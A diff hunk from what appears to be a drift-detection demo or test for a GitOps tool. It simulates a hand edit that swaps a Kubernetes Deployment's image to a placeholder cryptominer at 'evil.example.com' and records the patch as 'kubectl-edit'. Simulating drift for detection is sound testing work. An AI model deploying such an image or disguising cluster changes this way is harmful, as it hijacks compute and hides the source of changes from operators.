@@ -42,7 +42,7 @@ say "5. Someone edits the cluster by hand: an image swapped, a limit added, repl
 import os
 from gitapply.cluster.local import LocalCluster
 from gitapply.model import ObjectKey, PatchType
-cluster = LocalCluster(os.environ["GITAPPLY_LOCAL"])
+cluster = LocalCluster(os.environ["GITAPPLY_LOCAL"], field_manager="kubectl-edit")  # recorded as kubectl edit records it
 web = ObjectKey("apps", "v1", "Deployment", "shop", "web")
 cluster.patch(web, {"spec": {"replicas": 7, "template": {"spec": {"containers": [
     {"name": "web", "image": "evil.example.com/miner:latest", "resources": {"limits": {"cpu": "4"}}}]}}}},
